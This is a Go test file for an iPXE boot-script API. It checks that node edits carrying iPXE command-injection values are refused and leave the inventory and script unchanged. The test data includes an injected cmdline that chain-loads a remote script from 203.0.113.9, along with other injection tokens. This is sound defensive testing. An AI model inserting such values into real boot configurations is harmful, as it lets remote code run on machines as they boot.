package api

import (
	"os"
	"strings"
	"testing"
)

// TestNodeEditRefusesIPXEInjection: a node edit whose cmdline or kernel
// would inject iPXE commands is refused with the field named, the
// inventory file is left as it was, and the node's script is unchanged.
func TestNodeEditRefusesIPXEInjection(t *testing.T) {
	e := newEnv(t)
	const script = "/ipxe?mac=52:54:00:00:00:01&platform=pcbios"
	before := e.mustDo("GET", script, nil, 200, nil)
	inv, _ := os.ReadFile(e.invPath)
	for _, tc := range []struct{ fields, msg string }{
		{`{"fields":{"cmdline":"quiet ; chain http://203.0.113.9/x.ipxe ; #"}}`, `cmdline: token \";\"`},
		{`{"fields":{"cmdline":"quiet #"}}`, `cmdline: token \"#\"`},
		{`{"fields":{"cmdline":"x=${net0/ip}"}}`, "cmdline: token"},
		{`{"fields":{"kernel":"vmlinuz;x"}}`, "kernel: file name"},
		{`{"fields":{"initrd":"i#x"}}`, "initrd: file name"},
	} {
		code, body := e.do("PATCH", "/api/v1/nodes/cn001", tc.fields)
		if code != 400 || !strings.Contains(body, tc.msg) {
			t.Errorf("PATCH %s = %d %s, want 400 naming %q", tc.fields, code, body, tc.msg)
		}
	}
	if after, _ := os.ReadFile(e.invPath); string(after) != string(inv) {
		t.Errorf("refused edits changed the inventory file")
	}
	if after := e.mustDo("GET", script, nil, 200, nil); after != before || strings.Contains(after, "203.0.113.9") {
		t.Errorf("script changed after refused edits:\n%s", after)
	}
}
